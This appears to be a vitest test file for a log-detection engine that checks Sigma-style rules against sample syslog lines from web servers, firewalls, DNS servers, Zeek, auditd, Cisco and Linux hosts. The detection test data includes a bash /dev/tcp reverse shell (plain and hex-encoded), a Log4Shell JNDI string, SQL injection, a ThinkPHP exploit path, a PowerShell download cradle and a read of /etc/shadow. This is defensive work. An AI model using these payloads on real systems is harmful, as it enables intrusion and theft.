import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, expect, test } from 'vitest';
import { eventOf } from '../../../collector/parsers/testing/samples.ts';
import { parseQuickly } from '../load/yaml/quick-yaml.ts';
import { createRuleSet } from '../rule-set.ts';
import { loadText } from '../testing/rules.ts';
import { loadPipelines } from './load-pipelines.ts';
import type { Pipeline } from './pipeline.ts';

/**
 * Rules as SigmaHQ writes them for each kind of log source, and a line as the device sends it: the rule must see it
 * through parser and pipelines.
 */
interface Case {
  logsource: string;
  /** Entries of `detection` beside the condition `all of them`. */
  selections: string;
  line: string;
}

const fortigate = 'date=2026-11-22 time=10:00:00 devname="FG" devid="FG1" vd="root" srcip=10.1.1.1';
const nginxJson =
  '<190>Nov 22 10:00:00 web nginx: {"time_local":"22/Nov/2026:10:00:00 +0800","remote_addr":"203.0.113.9",' +
  '"request_method":"GET","request_uri":"/a.php?id=1%20UNION%20SELECT%201","status":"200",' +
  '"http_user_agent":"sqlmap/1.7","http_cookie":"x=y","host":"www.example.edu.cn"}';
const zeek = (fields: string): string =>
  `<14>Nov 22 10:00:00 sensor zeek: {${fields},"ts":1795312800.1,"uid":"C1","id.orig_h":"10.0.0.1","id.resp_h":"10.0.0.2"}`;

const audit = (record: string): string => `<14>Nov 22 10:00:00 lab audispd: node=lab ${record}`;

const cases: Readonly<Record<string, Case>> = {
  'web server: address, method and status': {
    logsource: '{category: webserver}',
    selections:
      "s: {cs-method: GET, cs-uri-query|contains: 'UNION%20SELECT', sc-status: 200}\n  t: {cs-uri-stem|startswith: /a.php}",
    line: nginxJson,
  },
  'web server: program, cookie and host': {
    logsource: '{category: webserver}',
    selections:
      "s: {cs-user-agent|contains: sqlmap, cs-cookie: 'x=*', cs-host|endswith: .edu.cn, c-ip|cidr: 203.0.113.0/24}",
    line: nginxJson,
  },
  'web server: keywords': {
    logsource: '{category: webserver}',
    selections: "keywords: ['UNION%20SELECT', 'group_concat(']",
    line: nginxJson,
  },
  'web server: the combined format of nginx': {
    logsource: '{category: webserver}',
    selections: String.raw`s: {cs-method: GET, cs-uri-query|contains: '\think\app/invokefunction', sc-status: 200, c-uri-stem: /index.php, cs-user-agent|startswith: Mozilla}`,
    line: String.raw`<190>Nov 22 10:00:00 web nginx: 203.0.113.9 - - [22/Nov/2026:10:00:00 +0800] "GET /index.php?s=index/\x5Cthink\x5Capp/invokefunction HTTP/1.1" 200 612 "-" "Mozilla/5.0" "-"`,
  },
  'web server: httpd piped to logger, with the site first': {
    logsource: '{category: webserver}',
    selections:
      's: {c-uri|contains: /wp-admin, cs-host: www.example.edu.cn, sc-status: 404, cs-referer|contains: evil, cs-username: chen}',
    line: '<190>Nov 22 10:00:00 web httpd: www.example.edu.cn:443 203.0.113.9 - chen [22/Nov/2026:10:00:00 +0800] "GET /wp-admin/ HTTP/1.1" 404 5 "http://evil.example/" "curl/8"',
  },
  'web server: keywords in an access log of Tomcat': {
    logsource: '{category: webserver}',
    selections: "keywords: ['${jndi:ldap']",
    line: '<190>Nov 22 10:00:00 app localhost_access_log: 203.0.113.9 - - [22/Nov/2026:10:00:00 +0800] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://x}"',
  },
  'proxy: a firewall that filters addresses': {
    logsource: '{category: proxy}',
    selections:
      "s: {c-uri|contains: '/gate.php?', cs-host: evil.example, c-useragent|startswith: Mozilla/4, cs-method: GET}",
    line: `<189>${fortigate} logid="0317013312" type="utm" subtype="webfilter" dstip=203.0.113.7 service="HTTP" hostname="evil.example" url="/gate.php?x=1" agent="Mozilla/4.0" httpmethod="GET" action="passthrough"`,
  },
  'DNS: a firewall that looks into queries': {
    logsource: '{category: dns}',
    selections: "s: {query|endswith: .minergate.com, record_type: A, answer: '198.51.100.4'}",
    line: `<189>${fortigate} logid="1501054802" type="utm" subtype="dns" dstip=198.51.100.53 qname="xmr.pool.minergate.com" qtype="A" ipaddr="198.51.100.4" action="pass"`,
  },
  'DNS: Zeek': {
    logsource: '{category: dns}',
    selections: 's: {query|endswith: .minergate.com, record_type: TXT}',
    line: zeek('"_path":"dns","query":"x.minergate.com","qtype_name":"TXT"'),
  },
  'DNS: BIND': {
    logsource: '{category: dns}',
    selections: 's: {query|endswith: .minergate.com, record_type: A, src_ip|cidr: 10.0.0.0/8}',
    line: '<30>Nov 22 10:00:00 ns1 named[812]: client @0x7f1c2c0a1b68 10.1.1.8#53211 (x.pool.minergate.com): view internal: query: x.pool.minergate.com IN A +E(0)K (10.0.0.53)',
  },
  'DNS: dnsmasq': {
    logsource: '{category: dns}',
    selections: 's: {query: api.telegram.org, record_type: AAAA}',
    line: '<30>Nov 22 10:00:00 gw dnsmasq[99]: query[AAAA] api.telegram.org from 10.1.1.8',
  },
  'DNS: an answer of dnsmasq': {
    logsource: '{category: dns}',
    selections: 's: {answer|contains: IEX}',
    line: '<30>Nov 22 10:00:00 gw dnsmasq[99]: 7 10.1.1.8/53211 reply t.example.com is "IEX (New-Object Net.WebClient)"',
  },
  'DNS: Unbound': {
    logsource: '{category: dns}',
    selections: 's: {query|endswith: .duckdns.org, record_type: TXT}',
    line: '<30>Nov 22 10:00:00 ns2 unbound[7]: [7:0] info: 10.1.1.8 a.duckdns.org. TXT IN',
  },
  'zeek dns': {
    logsource: '{product: zeek, service: dns}',
    selections: "s: {query|endswith: .minergate.com, id.resp_h: '10.0.0.2'}",
    line: zeek('"_path":"dns","query":"x.minergate.com"'),
  },
  'zeek http': {
    logsource: '{product: zeek, service: http}',
    selections: "s: {method: POST, uri: /wsman, status_code: 200, c-useragent: '*curl*'}",
    line: zeek(
      '"_path":"http","method":"POST","uri":"/wsman","status_code":200,"user_agent":"curl/8"',
    ),
  },
  'zeek dce_rpc': {
    logsource: '{product: zeek, service: dce_rpc}',
    selections: 's: {endpoint: spoolss, operation: RpcAddPrinterDriverEx}',
    line: zeek('"_path":"dce_rpc","endpoint":"spoolss","operation":"RpcAddPrinterDriverEx"'),
  },
  'firewall: addresses and ports': {
    logsource: '{category: firewall}',
    selections: "s: {dst_ip: '203.0.113.7', dst_port: 53, src_ip: '10.1.1.1', action: denied}",
    line: `<189>${fortigate} logid="0000000013" type="traffic" subtype="forward" srcport=5 dstip=203.0.113.7 dstport=53 proto=17 action="deny"`,
  },
  fortigate: {
    logsource: '{product: fortigate, service: event}',
    selections: 's: {action: Add, cfgpath: system.admin, cfgobj: mallory}',
    line: `<189>${fortigate} logid="0100044547" type="event" subtype="system" user="admin" ui="https(10.0.0.5)" action="Add" cfgpath="system.admin" cfgobj="mallory" msg="Add system.admin mallory"`,
  },
  'fortios sslvpnd': {
    logsource: '{product: fortios, service: sslvpnd}',
    selections: 'keywords: [/data/lib/libips.bak]',
    line: `<189>${fortigate} logid="0100032546" type="event" subtype="system" msg="Application crashed: /data/lib/libips.bak" action="crash"`,
  },
  antivirus: {
    logsource: '{category: antivirus}',
    selections: 's: {Signature|contains: Backdoor.JSP, Filename|endswith: .jsp}',
    line: `<189>${fortigate} logid="0211008192" type="utm" subtype="virus" filename="shell.jsp" virus="Backdoor.JSP.x" action="blocked"`,
  },
  'huawei bgp': {
    logsource: '{product: huawei, service: bgp}',
    selections: "keywords:\n    '|all': [':179', BGP_AUTH_FAILED]",
    line: '<187>Nov 22 2026 10:00:00 HW %%01BGP/3/BGP_AUTH_FAILED(l)[5]:BGP session authentication failed. (PeerSession=10.0.0.1:179)',
  },
  'cisco aaa: a command': {
    logsource: '{product: cisco, service: aaa}',
    selections: 'keywords: [clear logging, clear archive]',
    line: '<189>45: *Nov 22 02:00:00.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:clear logging',
  },
  'cisco bgp': {
    logsource: '{product: cisco, service: bgp}',
    selections: "keywords:\n    '|all': ['TCP-6-BADAUTH', '(179)']",
    line: '<190>45: Nov 22 02:00:00.123: %TCP-6-BADAUTH: No MD5 digest from 10.0.0.1(179) to 10.0.0.2(11003)',
  },
  'cisco syslog': {
    logsource: '{product: cisco, service: syslog}',
    selections: "event: ['%SEC_LOGIN-5-WEBLOGIN_SUCCESS:']\n  user: [cisco_tac_admin]",
    line: '<189>45: Nov 22 02:00:00.123: %SEC_LOGIN-5-WEBLOGIN_SUCCESS: Login Success [user: cisco_tac_admin] [Source: 203.0.113.8]',
  },
  'juniper bgp': {
    logsource: '{product: juniper, service: bgp}',
    selections: "keywords:\n    '|all': [':179', missing MD5 digest]",
    line: '<187>Nov 22 10:00:00 mx rpd[1234]: tcp_auth: 10.0.0.1:179 missing MD5 digest',
  },
  'linux sshd': {
    logsource: '{product: linux, service: sshd}',
    selections: "keywords: ['Failed to generate curve25519 keys']",
    line: '<38>Nov 22 10:00:00 lab sshd[7]: error: Failed to generate curve25519 keys',
  },
  'linux sudo': {
    logsource: '{product: linux, service: sudo}',
    selections: "s:\n    USER: ['#-*', '#*4294967295']",
    line: '<85>Nov 22 10:00:00 lab sudo:  alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id',
  },
  'linux process creation by sudo': {
    logsource: '{product: linux, category: process_creation}',
    selections: 's: {CommandLine|contains: /etc/shadow, User: root}',
    line: '<85>Nov 22 10:00:00 lab sudo:  alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow',
  },
  'linux auditd: arguments, one in hexadecimal': {
    logsource: '{product: linux, service: auditd}',
    selections:
      "s: {type: EXECVE, a0|endswith: iptables, a1: '-t', a2: nat}\n  keywords: ['--to-ports 42']",
    line: audit(
      'type=EXECVE msg=audit(1795312800.123:7): argc=4 a0="/sbin/iptables" a1="-t" a2="nat" a3=2D2D746F2D706F727473203432',
    ),
  },
  'linux auditd: a system call by name, number and key': {
    logsource: '{product: linux, service: auditd}',
    selections:
      's: {type: SYSCALL, SYSCALL: socket, a0: 26}\n  t: {key: af_alg_detect, exe|endswith: /python3, euid: 33}',
    line: audit(
      'type=SYSCALL msg=audit(1795312800.123:7): arch=c000003e syscall=41 success=yes exit=3 a0=26 a1=5 a2=0 a3=0 items=0 ppid=1 pid=2 auid=1000 uid=33 gid=33 euid=33 comm="python3" exe="/usr/bin/python3" key="af_alg_detect"',
    ),
  },
  'linux auditd: an enriched system call': {
    logsource: '{product: linux, service: auditd}',
    selections: 's: {type: SYSCALL, SYSCALL: mknod, comm: mknod}',
    line: audit(
      'type=SYSCALL msg=audit(1795312800.123:7): arch=c000003e syscall=133 success=yes comm="mknod" exe="/usr/bin/mknod" key=(null)#035ARCH=x86_64 SYSCALL=mknod UID="root"',
    ),
  },
  'linux auditd: a path': {
    logsource: '{product: linux, service: auditd}',
    selections: 's: {type: PATH, nametype: CREATE, name|startswith: /etc/systemd/system/}',
    line: audit(
      'type=PATH msg=audit(1795312800.123:7): item=1 name="/etc/systemd/system/x.service" inode=7 dev=fe:00 mode=0100644 nametype=CREATE',
    ),
  },
  'linux auditd: a service, by journald': {
    logsource: '{product: linux, service: auditd}',
    selections: 's: {type: SERVICE_STOP, unit: [firewalld, ufw]}',
    line: `<30>Nov 22 10:00:00 lab audit[1]: SERVICE_STOP pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'`,
  },
  'linux process creation by auditd': {
    logsource: '{product: linux, category: process_creation}',
    selections: "s: {CommandLine|contains|all: ['-i', '/dev/tcp/'], Image|endswith: /bash}",
    line: audit(
      'type=EXECVE msg=audit(1795312800.123:7): argc=3 a0="/bin/bash" a1="-c" a2=62617368202D69203E26202F6465762F7463702F3230332E302E3131332E392F34343434',
    ),
  },
  'linux cron': {
    logsource: '{product: linux, service: cron}',
    selections: 'keywords: [REPLACE]',
    line: '<78>Nov 22 10:00:00 lab crontab[99]: (root) REPLACE (root)',
  },
  'linux, any service': {
    logsource: '{product: linux}',
    selections: "keywords: ['bash -i >& /dev/tcp/']",
    line: '<13>Nov 22 10:00:00 lab bash[7]: alice ran: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  },
  'linux auth: pam': {
    logsource: '{product: linux, service: auth}',
    selections: "keywords:\n    '|all': [authentication failure, rhost=203.0.113.9]",
    line: '<85>Nov 22 10:00:00 lab sshd[7]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root',
  },
  'apache, its error log': {
    logsource: '{service: apache}',
    selections: 'keywords: [exit signal Segmentation Fault]',
    line: '<27>Nov 22 10:00:00 web apache2[77]: [core:notice] [pid 77] AH00052: child pid 99 exit signal Segmentation fault (11)',
  },
  'nginx, its error log': {
    logsource: '{service: nginx}',
    selections: "keywords: ['exited on signal 6 (core dumped)']",
    line: '<185>Nov 22 10:00:00 web nginx_error: 2026/11/22 10:00:00 [alert] 1#1: worker process 99 exited on signal 6 (core dumped)',
  },
  'application: SQL errors that nginx hands on': {
    logsource: '{category: application, product: sql}',
    selections: 'keywords: [You have an error in your SQL syntax]',
    line: '<187>Nov 22 10:00:00 web nginx: 2026/11/22 10:00:00 [error] 7#7: *1 FastCGI sent in stderr: "PHP message: You have an error in your SQL syntax" while reading response header from upstream, client: 203.0.113.9, server: _, request: "GET / HTTP/1.1"',
  },
  'application: JVM': {
    logsource: '{category: application, product: jvm}',
    selections: 'keywords: [com.sun.jndi.ldap.]',
    line: '<14>Nov 22 10:00:00 app tomcat[9]: SEVERE: javax.naming.NamingException at com.sun.jndi.ldap.LdapCtx',
  },
  'application: SQL errors': {
    logsource: '{category: application, product: sql}',
    selections: 'keywords: [You have an error in your SQL syntax]',
    line: '<27>Nov 22 10:00:00 web php-fpm[77]: You have an error in your SQL syntax near 1',
  },
  'a honeypot': {
    logsource: '{category: application, product: opencanary}',
    selections: "s: {logtype: 4002, src_host: '10.0.0.9'}",
    line: '<14>Nov 22 10:00:00 pot opencanaryd: {"dst_host":"10.0.0.5","dst_port":22,"logdata":{"USERNAME":"root"},"logtype":4002,"node_id":"pot","src_host":"10.0.0.9"}',
  },
};

const folder = join(import.meta.dirname, '../../../rules/detection/pipelines');
let pipelines: readonly Pipeline[];
beforeAll(async () => {
  const loaded = await loadPipelines(folder);
  expect(loaded.faults).toEqual([]);
  ({ pipelines } = loaded);
});

for (const [name, { logsource, selections, line }] of Object.entries(cases)) {
  test(`shows a rule what it is for: ${name}`, () => {
    const yaml = `title: t\nid: t\nlogsource: ${logsource}\ndetection:\n  ${selections}\n  condition: all of them\n`;
    const { rules, faults } = loadText(yaml);
    expect(faults).toEqual([]);
    const ruleSet = createRuleSet(rules, { pipelines });
    const event = eventOf(line);
    expect(ruleSet.match(event), JSON.stringify(event, null, 1)).toHaveLength(1);
    // A line of another kind is none of its business.
    expect(ruleSet.match(eventOf('<13>Nov 22 10:00:00 x other[1]: nothing'))).toEqual([]);
  });
}

test('are all plain YAML, which is read without the library', async () => {
  for (const name of await readdir(folder)) {
    expect(parseQuickly(await readFile(join(folder, name), 'utf8')).kind, name).toBe('read');
  }
});
